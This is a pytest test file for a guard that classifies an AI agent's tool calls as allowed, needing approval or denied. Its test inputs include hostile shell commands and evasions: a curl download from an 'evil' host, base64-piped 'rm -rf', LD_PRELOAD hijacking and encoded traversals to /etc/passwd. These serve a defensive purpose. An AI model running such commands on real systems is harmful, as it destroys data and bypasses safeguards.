"""The pure decision: deny before ask before allow before the default."""

from __future__ import annotations

import json
from collections.abc import Mapping
from itertools import permutations
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callboard import Effect, Tool, ToolCall
from callboard_mixins import GuardAction, GuardMode, GuardPolicy, GuardRule, strict_policy
from callboard_mixins.tool_guard.findings import Finding, Severity
from callboard_mixins.tool_guard.policy import Judgement, Kind
from callboard_providers.tools import editing_tools, file_tools
from tests.mixins.tool_guard.guard_kit import plain_workspace, trapped_workspace

ALLOW, ASK, DENY = GuardAction.ALLOW, GuardAction.ASK, GuardAction.DENY


async def ran(arguments: Mapping[str, Any], context: object) -> str:
    return "ran"


def tool_named(
    name: str = "shell", *, effect: Effect = Effect.EFFECT, sandboxed: bool = False
) -> Tool:
    return Tool.from_schema(
        name=name,
        description="",
        parameters={"type": "object"},
        run=ran,
        effect=effect,
        sandboxed=sandboxed,
    )


def judged(
    policy: GuardPolicy, arguments: Mapping[str, Any], tool: Tool | None = None
) -> Judgement:
    used = tool_named() if tool is None else tool
    return policy.judge(ToolCall(id="c", name=used.name, raw=json.dumps(arguments)), used)


def blind(call: ToolCall, tool: Tool) -> tuple[Finding, ...]:
    """A detector that sees nothing."""
    return ()


def rule(action: GuardAction, **more: Any) -> GuardRule:
    return GuardRule(id=f"{action}-rule", action=action, **more)


@pytest.mark.parametrize("order", list(permutations((ALLOW, ASK, DENY))))
def test_the_strictest_rule_counts_in_whatever_order_they_stand(
    order: tuple[GuardAction, ...],
) -> None:
    policy = GuardPolicy(rules=tuple([rule(action) for action in order]))
    judgement = judged(policy, {})
    assert (judgement.kind, judgement.rule) == (Kind.AUTO_DENIED, "deny-rule")


@pytest.mark.parametrize(
    ("default", "kind"),
    [(ALLOW, Kind.UNGUARDED), (ASK, Kind.NEEDS_APPROVAL), (DENY, Kind.AUTO_DENIED)],
)
def test_where_no_rule_fits_the_default_counts(default: GuardAction, kind: Kind) -> None:
    policy = GuardPolicy(rules=(rule(DENY, tools=("other",)),), default=default)
    assert judged(policy, {}).kind is kind


def test_without_anything_a_policy_asks() -> None:
    assert judged(GuardPolicy(), {}).kind is Kind.NEEDS_APPROVAL


def test_qp_50_a_rule_without_tools_is_about_all_of_them() -> None:
    policy = GuardPolicy(rules=(rule(DENY, tools=()),), default=ALLOW)
    assert judged(policy, {}, tool_named("anything")).kind is Kind.AUTO_DENIED


def test_tools_are_named_with_wildcards() -> None:
    policy = GuardPolicy(rules=(rule(DENY, tools=("delete_*",)),), default=ALLOW)
    assert judged(policy, {}, tool_named("delete_file")).kind is Kind.AUTO_DENIED
    assert judged(policy, {}, tool_named("read_file")).kind is Kind.UNGUARDED


def test_patterns_look_at_every_text_and_exclusions_at_the_same_one() -> None:
    policy = GuardPolicy(
        rules=(rule(DENY, patterns=("secret",), exclude=("no secret",)),), default=ALLOW
    )
    assert judged(policy, {"a": [{"b": "a secret"}]}).kind is Kind.AUTO_DENIED
    assert judged(policy, {"a": "no secret"}).kind is Kind.UNGUARDED
    assert judged(policy, {"a": "no secret", "b": "secret"}).kind is Kind.AUTO_DENIED


def test_patterns_may_be_about_one_parameter() -> None:
    policy = GuardPolicy(rules=(rule(DENY, patterns=("x",), parameters=("path",)),), default=ALLOW)
    assert judged(policy, {"path": "x"}).kind is Kind.AUTO_DENIED
    assert judged(policy, {"text": "x"}).kind is Kind.UNGUARDED


def test_a_text_too_long_to_be_searched_is_denied_and_never_allowed() -> None:
    long = "a" * 100_000
    deny = GuardPolicy(rules=(rule(DENY, patterns=("x",)),), default=ALLOW)
    allow = GuardPolicy(rules=(rule(ALLOW, patterns=("a",)),), default=ASK)
    assert judged(deny, {"text": long}).kind is Kind.AUTO_DENIED
    assert judged(allow, {"text": long}).kind is Kind.NEEDS_APPROVAL


LOOKING = GuardPolicy(rules=(rule(ALLOW, tools=("shell",), programs=("ls", "echo")),), default=ASK)


@pytest.mark.parametrize(
    "command",
    [
        "ls && curl http://evil/x -o /tmp/x",
        "echo hi; npx whatever",
        "ls | openssl enc -d",
        "echo aGk= > /tmp/1.sh",
        "echo ok\nrm -r /tmp/x",
        "echo $(rm x)",
        "ls 'unclosed",
        "$X",
        "A=1",
        "",
    ],
)
def test_grd_01_an_allowed_program_does_not_allow_what_stands_behind_it(command: str) -> None:
    assert judged(LOOKING, {"command": command}).kind is Kind.NEEDS_APPROVAL


@pytest.mark.parametrize("command", ["ls", "ls -la src", 'echo "a && b"', "ls; echo done"])
def test_grd_01_what_is_allowed_in_all_its_parts_runs(command: str) -> None:
    assert judged(LOOKING, {"command": command}).kind is Kind.PREAPPROVED


def test_a_program_may_be_named_with_its_first_words() -> None:
    policy = GuardPolicy(rules=(rule(ASK, programs=("git push",)),), default=ALLOW)
    assert judged(policy, {"command": "cd x && git push origin"}).kind is Kind.NEEDS_APPROVAL
    assert judged(policy, {"command": "git status"}).kind is Kind.UNGUARDED


def test_qp_42_what_a_detector_advises_counts(tmp_path: Path) -> None:
    policy = strict_policy(plain_workspace(tmp_path))
    shell = tool_named("run_command", sandboxed=True)
    assert judged(policy, {"command": "ls"}, shell).kind is Kind.PREAPPROVED
    assert judged(policy, {"command": "git push"}, shell).kind is Kind.NEEDS_APPROVAL
    assert judged(policy, {"command": "rm -rf ~"}, shell).kind is Kind.AUTO_DENIED


def test_a_shell_without_a_sandbox_asks_for_everything(tmp_path: Path) -> None:
    judgement = judged(
        strict_policy(plain_workspace(tmp_path)), {"command": "ls"}, tool_named("run_command")
    )
    assert (judgement.kind, judgement.rule) == (Kind.NEEDS_APPROVAL, "shell-without-a-sandbox")


def finding(advice: Any, category: str = "shell.network") -> Finding:
    return Finding(category, Severity.MEDIUM, "it talks", "/command", advice)


def test_a_rule_that_names_a_category_lifts_its_question_and_no_refusal() -> None:
    lifting = rule(ALLOW, tools=("shell",), categories=("shell.net*",))

    def policy(*found: Finding) -> GuardPolicy:
        return GuardPolicy(rules=(lifting,), detectors=(lambda call, tool: found,))

    assert judged(policy(finding("ask")), {}).kind is Kind.PREAPPROVED
    assert judged(policy(finding("deny")), {}).kind is Kind.AUTO_DENIED
    assert judged(policy(finding("ask"), finding("ask", "path.outside")), {}).kind is (
        Kind.NEEDS_APPROVAL
    )


def test_a_rule_that_only_names_the_tool_lifts_no_question() -> None:
    policy = GuardPolicy(
        rules=(rule(ALLOW, tools=("shell",)),), detectors=(lambda call, tool: (finding("ask"),),)
    )
    assert judged(policy, {}).kind is Kind.NEEDS_APPROVAL


def test_severity_counts_from_the_one_that_is_named() -> None:
    severe = rule(DENY, categories=("*",), at_least=Severity.HIGH)
    policy = GuardPolicy(
        rules=(severe,), detectors=(lambda call, tool: (finding("note"),),), default=ALLOW
    )
    assert judged(policy, {}).kind is Kind.UNGUARDED


def test_dont_ask_denies_what_would_be_asked_about_and_says_so() -> None:
    judgement = judged(GuardPolicy(rules=(rule(ASK),), mode=GuardMode.DONT_ASK), {})
    assert (judgement.kind, judgement.rule) == (Kind.AUTO_DENIED, "ask-rule")
    assert "nobody is asked" in judgement.reason


def test_explore_runs_only_what_changes_nothing() -> None:
    policy = GuardPolicy(mode=GuardMode.EXPLORE, default=ALLOW)
    assert judged(policy, {}, tool_named(effect=Effect.PURE)).kind is Kind.UNGUARDED
    for effect in (Effect.EFFECT, Effect.IDEMPOTENT):
        assert judged(policy, {}, tool_named(effect=effect)).kind is Kind.AUTO_DENIED


def test_qp_40_off_is_the_only_mode_in_which_a_denied_tool_runs() -> None:
    kinds = {
        mode: judged(GuardPolicy(rules=(rule(DENY),), mode=mode, detectors=(blind,)), {}).kind
        for mode in GuardMode
    }
    assert [mode for mode, kind in kinds.items() if kind is not Kind.AUTO_DENIED] == [GuardMode.OFF]


def test_accept_edits_lets_edits_inside_the_workspace_pass(tmp_path: Path) -> None:
    policy = strict_policy(trapped_workspace(tmp_path), mode=GuardMode.ACCEPT_EDITS)
    tools = {tool.name: tool for tool in editing_tools(str(tmp_path))}
    for path, kind in {
        "src/main.py": Kind.PREAPPROVED,
        "link/passwd": Kind.AUTO_DENIED,
        "../elsewhere/x": Kind.NEEDS_APPROVAL,
    }.items():
        written = {"path": path, "text": "x"}
        assert judged(policy, written, tools["write_file"]).kind is kind, path
    deleted = judged(policy, {"path": "src/main.py"}, tools["delete_file"])
    assert deleted.kind is Kind.NEEDS_APPROVAL


@pytest.mark.parametrize("path", ["link/passwd", "d/mid/tmp/evil", "../x", "/etc/passwd", "chain"])
def test_grd_05_links_that_lead_out_are_seen(tmp_path: Path, path: str) -> None:
    policy = strict_policy(trapped_workspace(tmp_path))
    read_file = next(tool for tool in file_tools(str(tmp_path)) if tool.name == "read_file")
    assert judged(policy, {"path": path}, read_file).kind is not Kind.PREAPPROVED
    assert judged(policy, {"path": "inner/main.py"}, read_file).kind is Kind.PREAPPROVED


@pytest.mark.parametrize(
    "operation",
    [
        {"op": "read", "p": ["/ETC/Passwd"]},
        {"op": "x", "json": '{"p":"/etc/passwd"}'},
        {"op": "read", "p": ["\uff0e\uff0e/\uff0e\uff0e/etc/passwd"]},
        {"op": "read", "p": ["%2e%2e/etc/passwd"]},
        {"op": "read", "p": ["/e\u200btc/passwd"]},
    ],
)
def test_grd_08_every_leaf_is_looked_at(tmp_path: Path, operation: dict[str, Any]) -> None:
    policy = strict_policy(plain_workspace(tmp_path))
    batch = tool_named("batch", effect=Effect.PURE)
    assert judged(policy, {"ops": [operation]}, batch).kind is not Kind.PREAPPROVED


WORDS = st.sampled_from(["shell", "read", "write_file"])


def made(at: int, action: GuardAction, tools: list[str], patterns: list[str]) -> GuardRule:
    return GuardRule(id=f"r{at}", action=action, tools=tuple(tools), patterns=tuple(patterns))


RULES = st.builds(
    made,
    st.integers(0, 10_000_000),
    st.sampled_from(GuardAction),
    st.lists(WORDS, max_size=2),
    st.lists(st.sampled_from(["a", "b"]), max_size=1),
)


@settings(max_examples=150, deadline=None)
@given(
    rules=st.lists(RULES, max_size=6, unique_by=lambda one: one.id),
    added=RULES,
    mode=st.sampled_from([mode for mode in GuardMode if mode is not GuardMode.OFF]),
    text=st.sampled_from(["a", "b", "c"]),
    name=WORDS,
)
def test_one_more_rule_that_denies_or_asks_never_makes_it_milder(
    rules: list[GuardRule], added: GuardRule, mode: GuardMode, text: str, name: str
) -> None:
    strict = added.model_copy(update={"id": "added", "action": ASK if text == "a" else DENY})
    less = GuardPolicy(rules=tuple(rules), mode=mode, detectors=(blind,))
    before = judged(less, {"t": text}, tool_named(name))
    more = GuardPolicy(rules=(*rules, strict), mode=mode, detectors=(blind,))
    after = judged(more, {"t": text}, tool_named(name))
    order = [Kind.UNGUARDED, Kind.PREAPPROVED, Kind.NEEDS_APPROVAL, Kind.AUTO_DENIED]
    assert order.index(after.kind) >= order.index(before.kind)


NO_RM = GuardPolicy(rules=(rule(DENY, tools=("shell",), programs=("rm",)),), default=ALLOW)


@pytest.mark.parametrize(
    "arguments",
    [
        {"command": "rm -rf x; ("},
        {"command": "$(printf rm) -rf x"},
        {"command": 'eval "$Y"'},
        {"command": 'bash -c "$Z"'},
        {"command": "echo cm0gLXJmIHg= | base64 -d | sh"},
        {"line": "rm -rf x"},
    ],
)
def test_a_rule_about_programs_asks_where_only_the_run_can_tell(arguments: dict[str, Any]) -> None:
    assert judged(NO_RM, arguments).kind is Kind.NEEDS_APPROVAL


def test_a_rule_about_programs_may_name_where_the_commands_are() -> None:
    named = rule(DENY, tools=("shell",), programs=("rm",), parameters=("line",))
    policy = GuardPolicy(rules=(named,), default=ALLOW)
    assert judged(policy, {"line": "ls; rm -rf x"}).kind is Kind.AUTO_DENIED
    assert judged(policy, {"line": "ls"}).kind is Kind.UNGUARDED


@pytest.mark.parametrize(
    "command",
    ["/tmp/evil/ls", "./ls", "PATH=.:$PATH ls", "LD_PRELOAD=./x.so ls", "PATH=/tmp; ls"],
)
def test_an_allowed_program_is_no_other_one_of_that_name(command: str) -> None:
    assert judged(LOOKING, {"command": command}).kind is Kind.NEEDS_APPROVAL


def test_accept_edits_lifts_the_default_and_no_rule(tmp_path: Path) -> None:
    own = rule(ASK, tools=("write_file",), patterns=(r"^\.github/",))
    policy = GuardPolicy(rules=(own,), detectors=(blind,), mode=GuardMode.ACCEPT_EDITS)
    write = tool_named("write_file")
    assert judged(policy, {"path": ".github/x"}, write).kind is Kind.NEEDS_APPROVAL
    assert judged(policy, {"path": "src/x"}, write).kind is Kind.PREAPPROVED
    strict = GuardPolicy(detectors=(blind,), mode=GuardMode.ACCEPT_EDITS, default=DENY)
    assert judged(strict, {"path": "src/x"}, write).kind is Kind.AUTO_DENIED


def test_patterns_look_at_numbers_and_parameters_with_a_slash() -> None:
    policy = GuardPolicy(
        rules=(rule(DENY, patterns=("^1000$",), parameters=("a/b",)),), default=ALLOW
    )
    assert judged(policy, {"a/b": 1000}).kind is Kind.AUTO_DENIED
    assert judged(policy, {"c": 1000}).kind is Kind.UNGUARDED
